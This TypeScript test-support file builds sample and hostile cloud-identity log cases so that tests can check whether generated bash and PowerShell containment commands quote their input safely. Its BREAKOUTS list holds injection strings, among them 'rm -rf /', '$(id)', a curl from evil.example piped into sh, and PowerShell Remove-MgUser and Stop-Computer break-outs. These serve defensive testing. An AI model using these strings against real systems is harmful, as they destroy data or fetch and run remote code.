/**
 * Test support for the containment builders (imported only by the *.test.ts files beside it):
 * one case per provider, built by cloning test/support's sampleCase and replacing its events;
 * a hostile variant of each (every log-controlled field an attack on the target shell); and
 * small tokenizers for bash and PowerShell single-quoted strings, so tests can check what the
 * shell would actually see instead of trusting the quoting function they are testing.
 */
import type { Case, CaseEvent } from '../../lib/model/case';
import { CaseSchema } from '../../lib/model/case';
import { HOSTILE, sampleCase } from './cases';

const T0 = Date.UTC(2026, 10, 20, 2, 14, 7);
const MIN = 60_000;

/** An event with the sample's defaults replaced (provider-neutral fields cleared). */
export function ev(over: Partial<CaseEvent> & Pick<CaseEvent, 'id' | 'provider' | 'actor' | 'action'>): CaseEvent {
  return {
    time: T0,
    timeKnown: true,
    format: over.provider,
    class: 'api_activity',
    actorKind: 'human',
    verb: 'read',
    success: true,
    flagged: [],
    ...over,
  };
}

/** sampleCase with its events (and subject) replaced. */
export function caseWith(events: CaseEvent[], subject?: Case['subject']): Case {
  const c = structuredClone(sampleCase());
  c.snapshot.events = events;
  if (subject) c.subject = subject;
  return CaseSchema.parse(c);
}

export const IDS = {
  awsRoleArn: 'arn:aws:iam::111122223333:role/ci/deploy-role',
  awsAssumed: 'arn:aws:sts::111122223333:assumed-role/deploy-role/build-42',
  awsTempKey: 'ASIAEXAMPLETEMP00042',
  entraUser: 'adele.vance@contoso.com',
  entraUserQuoted: "o'brien@contoso.com",
  entraUserGuid: '5d3a1f2e-7b8c-4d9e-a0f1-2b3c4d5e6f70',
  entraTenant: '72f988bf-86f1-41af-91ab-2d7cd011db47',
  entraApp: 'c0ffee00-1234-4abc-9def-0123456789ab',
  entraSpApp: 'a1b2c3d4-e5f6-4789-8abc-def012345678',
  entraSession: '0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9',
  gcpSa: 'deployer@proj-prod-123.iam.gserviceaccount.com',
  gcpProject: 'proj-prod-123',
  gcpKeyId: '1f2e3d4c5b6a79880716253443526170819a0b1c',
  gcpImpersonator: 'mallory@example.com',
  oktaLogin: 'jane.doe@example.com',
  oktaUserId: '00u1abcdEFGH2345ijkl',
  oktaClient: '0oa1b2c3d4E5F6g7H8i9',
  oktaApiToken: '00T1abcdEFGH2345ijkl',
  workspaceUser: 'jane.doe@example.com',
  workspaceClient: '123456789012-abc123def456.apps.googleusercontent.com',
  githubOrg: 'acme-corp',
  githubLogin: 'octocat',
  githubHashed: 'LXEWQrcmsEQBYnyp+6wy9chTD7GQPMTbAiWHF5IaSIE=',
  githubClient: 'Ov23liAbCdEfGhIjKlMn',
} as const;

export function awsRoleCase(): Case {
  return caseWith(
    [
      ev({
        id: 'a1',
        provider: 'aws',
        actor: IDS.awsAssumed,
        account: '111122223333',
        issuer: IDS.awsRoleArn,
        action: 'ListSecrets',
        credentialKind: 'temporary_key',
        credentialId: IDS.awsTempKey,
        flagged: ['mass-api-access'],
      }),
    ],
    { kind: 'identity', id: IDS.awsAssumed },
  );
}

export function entraCase(user: string = IDS.entraUser): Case {
  return caseWith(
    [
      ev({
        id: 'e1',
        provider: 'entra',
        class: 'authentication',
        actor: user,
        account: IDS.entraTenant,
        action: 'Sign-in',
        appId: IDS.entraApp,
        sessionId: IDS.entraSession,
        credentialKind: 'oauth_refresh_token',
        flagged: ['new-source'],
      }),
      ev({
        id: 'e2',
        provider: 'm365',
        class: 'authorization_grant',
        actor: user,
        account: IDS.entraTenant,
        action: 'Consent to application.',
        appId: IDS.entraApp,
      }),
      ev({
        id: 'e3',
        provider: 'azure',
        actorKind: 'service_principal',
        actor: IDS.entraSpApp,
        account: IDS.entraTenant,
        action: 'listKeys',
        appId: IDS.entraSpApp,
      }),
    ],
    { kind: 'identity', id: user },
  );
}

export function gcpCase(): Case {
  return caseWith(
    [
      ev({
        id: 'g1',
        provider: 'gcp',
        actor: IDS.gcpSa,
        account: IDS.gcpProject,
        action: 'storage.objects.list',
        credentialKind: 'service_account_key',
        credentialId: `//iam.googleapis.com/projects/${IDS.gcpProject}/serviceAccounts/${IDS.gcpSa}/keys/${IDS.gcpKeyId}`,
        flagged: ['risky-network'],
      }),
      ev({
        id: 'g2',
        provider: 'gcp',
        actor: IDS.gcpImpersonator,
        action: 'GenerateAccessToken',
        service: 'iamcredentials.googleapis.com',
        target: `service_account projects/-/serviceAccounts/${IDS.gcpSa}`,
        flagged: ['token-minting'],
      }),
    ],
    { kind: 'identity', id: IDS.gcpSa },
  );
}

export function oktaCase(withUserId = false): Case {
  return caseWith(
    [
      ev({
        id: 'o1',
        provider: 'okta',
        class: 'authentication',
        actor: withUserId ? IDS.oktaUserId : IDS.oktaLogin,
        action: 'user.session.start',
        credentialKind: 'session',
        credentialId: '102abcdefSESSIONid',
        flagged: ['new-source'],
      }),
      ev({
        id: 'o2',
        provider: 'okta',
        class: 'authorization_grant',
        actor: withUserId ? IDS.oktaUserId : IDS.oktaLogin,
        action: 'app.oauth2.as.token.grant',
        appId: IDS.oktaClient,
      }),
      ev({
        id: 'o3',
        provider: 'okta',
        actor: withUserId ? IDS.oktaUserId : IDS.oktaLogin,
        action: 'user.account.update',
        credentialKind: 'pat',
        credentialId: IDS.oktaApiToken,
      }),
    ],
    { kind: 'identity', id: withUserId ? IDS.oktaUserId : IDS.oktaLogin },
  );
}

export function workspaceCase(): Case {
  return caseWith(
    [
      ev({
        id: 'w1',
        provider: 'workspace',
        class: 'authorization_grant',
        actor: IDS.workspaceUser,
        action: 'authorize',
        service: 'token',
        credentialKind: 'oauth_access_token',
        appId: IDS.workspaceClient,
        flagged: ['new-app'],
      }),
    ],
    { kind: 'identity', id: IDS.workspaceUser },
  );
}

export function githubCase(): Case {
  return caseWith(
    [
      ev({
        id: 'h1',
        provider: 'github',
        actor: IDS.githubLogin,
        account: IDS.githubOrg,
        action: 'git.clone',
        credentialKind: 'pat',
        credentialId: IDS.githubHashed,
        flagged: ['mass-api-access'],
      }),
      ev({
        id: 'h2',
        provider: 'github',
        actor: IDS.githubLogin,
        account: IDS.githubOrg,
        action: 'oauth_authorization.create',
        class: 'authorization_grant',
        appId: IDS.githubClient,
      }),
    ],
    { kind: 'identity', id: IDS.githubLogin },
  );
}

/** Strings that must never reach a command: shell break-outs plus the shared HOSTILE set. */
export const BREAKOUTS = [
  "x'; rm -rf / #",
  'x"; rm -rf / #',
  'x`id`',
  'x$(id)',
  "x' ; curl https://evil.example | sh ; '",
  "o'brien@contoso.com'; Remove-MgUser -UserId x; '",
  'a\u2019; Stop-Computer; \u2018',
  'x\nrm -rf /',
  HOSTILE.secret,
  HOSTILE.quotes,
  HOSTILE.control,
  HOSTILE.formula,
  HOSTILE.formula2,
  HOSTILE.markdown,
] as const;

/** Every provider's events with every identifier field replaced by hostile text. */
export function hostileProviderCase(h: string): Case {
  const fields = (): Partial<CaseEvent> => ({
    account: h,
    issuer: `arn:aws:iam::111122223333:role/${h}`,
    credentialId: h,
    sessionId: h,
    appId: h,
    appName: h,
    target: h,
  });
  return caseWith(
    [
      ev({
        id: 'x-aws',
        provider: 'aws',
        actor: `arn:aws:sts::111122223333:assumed-role/${h}/s`,
        action: h,
        flagged: ['new-source'],
        ...fields(),
      }),
      ev({
        id: 'x-aws-user',
        provider: 'aws',
        actor: `arn:aws:iam::111122223333:user/${h}`,
        action: 'CreateAccessKey',
        ...fields(),
        target: `AWS::IAM::User ${h}`,
      }),
      ev({ id: 'x-entra', provider: 'entra', actor: h, action: h, ...fields() }),
      ev({ id: 'x-entra-sp', provider: 'azure', actorKind: 'service_principal', actor: h, action: h, ...fields() }),
      ev({
        id: 'x-gcp',
        provider: 'gcp',
        actor: h,
        action: 'GenerateAccessToken',
        ...fields(),
        credentialId: `//iam.googleapis.com/projects/p/serviceAccounts/${h}/keys/${h}`,
        target: `service_account projects/-/serviceAccounts/${h}`,
      }),
      ev({ id: 'x-okta', provider: 'okta', actor: h, action: h, credentialKind: 'pat', ...fields() }),
      ev({ id: 'x-ws', provider: 'workspace', actor: h, action: h, service: 'token', ...fields() }),
      ev({ id: 'x-gh', provider: 'github', actor: h, action: h, ...fields() }),
    ],
    { kind: 'identity', id: h },
  );
}

// ---------------------------------------------------------------------------------------------
// Tokenizers (deliberately independent of the quoting code under test)

export type BashToken = { word: string } | { op: string };

/**
 * Splits a bash command line into words and operators the way bash would for the subset the
 * builders emit: single quotes (no escapes inside), double quotes (\\ \" \$ \` escapes;
 * `$(`, `${`, backticks are reported as an expansion operator), backslash escapes, `#` comments
 * at word start, control operators (| || & && ; ( ) < > newline) and `$(`/backtick outside quotes.
 */
export function tokenizeBash(src: string): BashToken[] {
  const out: BashToken[] = [];
  let word: string | undefined;
  let i = 0;
  const flush = (): void => {
    if (word !== undefined) out.push({ word });
    word = undefined;
  };
  while (i < src.length) {
    const ch = src[i]!;
    if (ch === "'") {
      const end = src.indexOf("'", i + 1);
      if (end < 0) throw new Error(`unterminated single quote at ${i}`);
      word = (word ?? '') + src.slice(i + 1, end);
      i = end + 1;
    } else if (ch === '"') {
      let j = i + 1;
      let s = '';
      for (;;) {
        if (j >= src.length) throw new Error(`unterminated double quote at ${i}`);
        const d = src[j]!;
        if (d === '"') break;
        if (d === '\\' && j + 1 < src.length && '\\"$`\n'.includes(src[j + 1]!)) {
          s += src[j + 1];
          j += 2;
          continue;
        }
        if (d === '`' || (d === '$' && (src[j + 1] === '(' || src[j + 1] === '{'))) out.push({ op: 'expansion' });
        s += d;
        j += 1;
      }
      word = (word ?? '') + s;
      i = j + 1;
    } else if (ch === '\\') {
      if (src[i + 1] === '\n')
        i += 2; // line continuation
      else {
        word = (word ?? '') + (src[i + 1] ?? '');
        i += 2;
      }
    } else if (ch === ' ' || ch === '\t') {
      flush();
      i += 1;
    } else if (ch === '#' && word === undefined) {
      const end = src.indexOf('\n', i);
      i = end < 0 ? src.length : end;
    } else if ('\n;|&()<>'.includes(ch)) {
      flush();
      const two = src.slice(i, i + 2);
      const op = ['&&', '||', '>>'].includes(two) ? two : ch;
      out.push({ op });
      i += op.length;
    } else if (ch === '`' || (ch === '$' && (src[i + 1] === '(' || src[i + 1] === '{'))) {
      out.push({ op: 'expansion' });
      word = (word ?? '') + ch;
      i += 1;
    } else {
      word = (word ?? '') + ch;
      i += 1;
    }
  }
  flush();
  return out;
}

/** The words of a bash command, asserting-free (operators dropped). */
export function bashWords(src: string): string[] {
  return tokenizeBash(src).flatMap((t) => ('word' in t ? [t.word] : []));
}

const PS_QUOTES = "'\u2018\u2019\u201A\u201B";

/**
 * Reads one PowerShell single-quoted string starting at `src[start]`: a doubled quote (any of
 * the four single-quote characters) is a literal quote. Returns the value and the index after it.
 */
export function readPsSingleQuoted(src: string, start: number): { value: string; end: number } {
  const isQuote = (ch: string | undefined): boolean => ch !== undefined && ch !== '' && PS_QUOTES.includes(ch);
  if (!isQuote(src[start])) throw new Error(`no quote at ${start}`);
  let i = start + 1;
  let value = '';
  for (;;) {
    if (i >= src.length) throw new Error('unterminated PowerShell string');
    const ch = src[i]!;
    if (isQuote(ch)) {
      if (isQuote(src[i + 1])) {
        value += ch;
        i += 2;
        continue;
      }
      return { value, end: i + 1 };
    }
    value += ch;
    i += 1;
  }
}

/** A JWT (header.payload.signature, base64url). */
export const JWT = /eyJ[A-Za-z0-9_-]{5,}\.eyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]*/;

/** `<PLACEHOLDER>`s in a command. */
export function placeholdersIn(command: string): string[] {
  return [...new Set(command.match(/<[A-Z][A-Z0-9_]*>/g) ?? [])];
}

export const TIMES = { T0, MIN };
